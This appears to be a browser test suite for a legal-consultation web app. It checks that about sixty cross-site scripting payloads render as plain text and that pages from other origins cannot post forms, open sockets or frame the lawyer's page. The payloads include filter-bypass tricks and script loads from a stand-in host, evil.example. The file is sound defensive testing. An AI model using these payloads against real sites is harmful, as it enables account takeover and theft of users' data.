// Pages under attack: text that wants to be markup, and pages of other origins that want to act as whoever is signed in.
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { after, afterEach, before, test } from 'node:test'
import { DESKTOP, openWindow, PHONE, startBrowser } from './lib/browser.js'
import { call, closeAll, openCitizen, openDesk, reach } from './lib/people.js'
import { chat, DIRECTORY, RECORD, row, script, session } from './lib/scripted.js'
import { startServer } from './lib/server.js'
import { serveDist } from './lib/static.js'

/** What each payload does if it is ever more than text. */
const HIT = 'window.hit=1'
const EVENTS = ['onload', 'onerror', 'onfocus autofocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onpageshow']
const ELEMENTS = ['img src=x', 'svg', 'body', 'input', 'details open', 'video src=x', 'audio src=x', 'iframe', 'object data=x', 'embed src=x', 'marquee', 'select', 'style', 'link rel=stylesheet href=x']
const PAYLOADS = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `</script><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `" onfocus="${HIT}" autofocus x="`,
  `' onmouseover='${HIT}`,
  `javascript:${HIT}`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="java&#9;script:${HIT}">x</a>`,
  `<a href=" &#14; javascript:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<base href="//evil.example/">`,
  `<object data="javascript:${HIT}"></object>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<math><mtext></p><img src=x onerror=${HIT}></math>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<div style="background:url(//evil.example/x)">x</div>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `{{${HIT}}}`,
  `<div v-html="'<img src=x onerror=${HIT}>'"></div>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `＜script＞${HIT}＜/script＞`,
  `<img src="x\`><script>${HIT}</script>"\`>`,
  `<img/src=x/onerror=${HIT}>`,
  `<<img src=x onerror=${HIT}>`,
  `\u202E<img src=x onerror=${HIT}>`,
  ...ELEMENTS.map((element, at) => `<${element} ${EVENTS[at % EVENTS.length]}=${HIT}>`),
]

/** Several in each line, so that the chat is short. */
const LINES = Array.from({ length: Math.ceil(PAYLOADS.length / 8) }, (_, at) => PAYLOADS.slice(at * 8, at * 8 + 8).join(' '))

let server
let browser
let site
let evil
before(async () => {
  server = await startServer()
  site = await serveDist()
  evil = await serveEvil()
  browser = await startBrowser()
})
afterEach(() => closeAll(browser))
after(async () => {
  await browser?.close()
  await site?.close()
  await evil?.close()
  await server?.stop()
})

test('every payload in a chat is text on both sides', async () => {
  assert.ok(new Set(PAYLOADS).size >= 60, `${PAYLOADS.length} payloads`)
  const lawyer = await openDesk(browser, server)
  const citizen = await openCitizen(browser, server)
  await Promise.all([watch(lawyer), watch(citizen)])
  await call(citizen, 'text')
  await lawyer.getByTestId('accept').click()
  await Promise.all([reach(citizen, 'text-only'), reach(lawyer, 'text-only')])

  for (const [from, to] of [[citizen, lawyer], [lawyer, citizen]]) {
    for (const line of LINES) {
      await from.getByTestId('chat-input').fill(line)
      await from.getByTestId('chat-send').click()
    }
    await to.getByTestId('chat-log').getByText(LINES.at(-1), { exact: true }).last().waitFor()
  }

  for (const page of [citizen, lawyer]) {
    await assertOnlyText(page, 'chat')
    const shown = await page.getByTestId('chat-log').evaluate(log => log.textContent)
    for (const payload of PAYLOADS) assert.equal(shown.split(payload).length - 1 >= 2, true, `said and heard: ${payload}`)
  }
})

test('every payload in a question and in its answer is text on both sides', async () => {
  const all = PAYLOADS.join(' ')
  // The other one still owes an outcome.
  const lawyer = await openDesk(browser, server, 'lawyer2', { onDuty: false })
  const citizen = await openCitizen(browser, server)
  await Promise.all([watch(lawyer), watch(citizen)])

  await citizen.getByTestId('area-LABOUR').click()
  await citizen.getByTestId('leave-question').click()
  await citizen.getByTestId('ask-text').fill(all)
  await citizen.getByTestId('ask-send').click()
  await citizen.getByTestId('question-state').waitFor()
  await lawyer.getByTestId('claim').first().click()
  await lawyer.getByTestId('held').waitFor()
  await lawyer.getByTestId('answer').fill(all)
  await lawyer.getByTestId('answer-send').click()
  await citizen.locator('[data-testid=question-text][data-kind=ANSWER]').waitFor()

  for (const page of [citizen, lawyer]) await assertOnlyText(page, 'question')
  const shown = await citizen.locator('main').evaluate(main => main.textContent)
  for (const payload of PAYLOADS) assert.equal(shown.split(payload).length - 1 >= 2, true, `asked and answered: ${payload}`)
})

test('every payload in what the server tells is text in every page', async () => {
  const all = PAYLOADS.join(' ')
  const bad = { practiceAreas: [], bureau: { name: all }, areas: DIRECTORY.areas.map(area => ({ ...area, name: all })) }
  const legs = ['CITIZEN', 'LAWYER'].map(role => ({ leg: `leg-${role.toLowerCase()}`, role, name: all, state: 'CONNECTED', microphone: 'ON', camera: 'ON' }))
  const talk = you => session({ you, channel: 'text', legs, locality: all })
  const api = { 'GET /api/directory': { ...DIRECTORY, ...bad } }

  const citizen = await openWindow(browser, { size: PHONE })
  const street = await script(citizen, { api, welcome: { name: all } })
  await watch(citizen)
  await citizen.goto(`${site.url}/?src=${encodeURIComponent(PAYLOADS[0])}#${encodeURIComponent(PAYLOADS[10])}`)
  await call(citizen, 'text')
  const { consultation } = await street.heard('requestConsultation')
  street.say(talk('leg-citizen'))
  street.say({ ...talk('leg-citizen'), consultation })
  street.say(chat(1, 'leg-lawyer', all))
  await citizen.getByTestId('chat-log').getByText(PAYLOADS[0]).first().waitFor()
  await assertOnlyText(citizen, 'citizen')

  const me = role => ({ role, name: all, id: 'x', door: role === 'LAWYER' ? 'lawyer' : 'office' })
  const rows = [row(1, { areaName: all, lawyer: { id: 'l', name: all } })]
  const record = { ...RECORD, lawyerName: all, licenceNo: all, entrySource: all, citizenRef: all, firmId: all, consentVersion: all }
  const matter = {
    matter: 'm', kind: 'CONSULTATION', state: 'ANSWERED', practiceArea: 'LABOUR', area: all, areaName: all, latest: 'm', channel: 'text', endedAt: 0,
    lawyer: { id: 'l', name: all }, openedAt: 0, settledAt: 0, rating: null, followUp: null, appeal: null,
    may: { rate: false, rerate: false, complain: false, reopen: null, appealUntil: null },
  }
  const lists = { 'GET /api/floors': { items: [] }, 'GET /api/matters': { items: [matter], next: null }, 'GET /api/sessions': { items: rows, next: null }, [`GET /api/records/${RECORD.recordId}`]: record, 'GET /api/records': { items: rows, next: null } }

  const lawyer = await openWindow(browser, { size: DESKTOP })
  const desk = await script(lawyer, { api: { ...api, ...lists, 'GET /api/me': me('LAWYER') }, welcome: { role: 'LAWYER', name: all, presence: 'AVAILABLE' } })
  await watch(lawyer)
  await lawyer.goto(`${site.url}/lawyer/`)
  await desk.heard('hello')
  desk.say(talk('leg-lawyer'))
  desk.say(chat(1, 'leg-citizen', all))
  await lawyer.getByTestId('chat-log').getByText(PAYLOADS[0]).first().waitFor()
  await assertOnlyText(lawyer, 'lawyer')

  const office = await openWindow(browser, { size: DESKTOP })
  await script(office, { api: { ...api, ...lists, 'GET /api/me': me('SUPERVISOR') } })
  await watch(office)
  await office.goto(`${site.url}/office/`)
  await office.getByTestId('open-record').first().click()
  await office.locator(`[data-testid=record][data-record="${RECORD.recordId}"]`).waitFor()
  assert.ok((await office.getByTestId('record').evaluate(shown => shown.textContent)).includes(PAYLOADS[0]), 'the record shows it')
  await assertOnlyText(office, 'office')
})

test('a page of another origin opens no socket and does nothing as the lawyer who is signed in', async () => {
  // The first one still has an outcome to write.
  // The other one still owes an outcome.
  const lawyer = await openDesk(browser, server, 'lawyer2', { onDuty: false })
  // Another port is another origin of the same site, to which cookies are sent; another name is another site.
  for (const origin of [`http://127.0.0.1:${evil.port}`, `http://localhost:${evil.port}`]) {
    const page = await lawyer.context().newPage()
    for (const [path, type] of [['/api/logout', 'text/plain'], ['/api/ws-ticket', 'text/plain'], ['/api/login', 'application/x-www-form-urlencoded'], ['/api/totp', 'multipart/form-data']]) {
      await page.goto(`${origin}/`)
      const answered = page.waitForResponse(response => response.url() === server.url + path)
      await page.evaluate(([action, enctype]) => {
        const form = document.createElement('form')
        Object.assign(form, { method: 'POST', action, enctype })
        document.body.append(form)
        form.submit()
      }, [server.url + path, type])
      const answer = await answered
      assert.deepEqual([answer.status(), (await answer.json()).code], [403, 'foreign-origin'], `${origin} ${path}`)
    }
    await page.goto(`${origin}/`)
    const tried = await page.evaluate(async url => {
      const socket = await new Promise(done => {
        const opened = new WebSocket(`${url.replace('http', 'ws')}/ws`)
        opened.onopen = () => done('open')
        opened.onerror = () => done('refused')
      })
      const read = await fetch(`${url}/api/me`, { credentials: 'include', headers: { 'Yunfa-Door': 'lawyer' } }).then(() => 'read', () => 'refused')
      const frame = document.createElement('iframe')
      frame.src = `${url}/lawyer/`
      const loaded = new Promise(done => {
        frame.onload = done
      })
      document.body.append(frame)
      await loaded
      return { socket, read }
    }, server.url)
    assert.deepEqual(tried, { socket: 'refused', read: 'refused' }, origin)
    assert.equal(await framed(page), 'chrome-error://chromewebdata/', 'framed by nobody')
    await page.close()
  }
  const me = await lawyer.evaluate(async () => (await fetch('/api/me', { headers: { 'Yunfa-Door': 'lawyer' } })).status)
  assert.equal(me, 200, 'still signed in')
  const own = await lawyer.evaluate(() => new Promise(done => {
    const opened = new WebSocket(`ws://${location.host}/ws`)
    opened.onopen = () => done('open')
    opened.onerror = () => done('refused')
  }))
  assert.equal(own, 'open', 'the own page gets a socket')
})

/** Notes every violation of the content policy from now on and in every later document. */
async function watch(page) {
  const note = () => {
    window.violations ??= []
    document.addEventListener('securitypolicyviolation', event => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`))
  }
  await page.addInitScript(note)
  await page.evaluate(note)
}

/** No payload ran, none was stopped by the content policy alone, and none became an element. */
async function assertOnlyText(page, where) {
  const found = await page.evaluate(() => ({
    hit: window.hit ?? 0,
    violations: window.violations,
    made: document.querySelectorAll('body script, iframe, object, embed, base, marquee, math, img[src="x"], a[href^="javascript"], [onerror], [onload], [onfocus], [ontoggle]').length,
  }))
  assert.deepEqual(found, { hit: 0, violations: [], made: 0 }, where)
}

/** What stands in the page's one frame; Chromium swaps a refused frame for its own error page a moment later. */
async function framed(page) {
  for (let tries = 0; tries < 100; tries += 1) {
    const url = page.frames().find(frame => frame !== page.mainFrame())?.url() ?? ''
    if (url !== '' && url !== 'about:blank') return url
    await page.waitForTimeout(50)
  }
  throw new Error('the frame never showed anything')
}

/** A site of somebody else. */
async function serveEvil() {
  const listening = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>'))
  await new Promise(done => listening.listen(0, done))
  return { port: listening.address().port, close: () => {
    listening.closeAllConnections()
    return new Promise(done => listening.close(done))
  } }
}
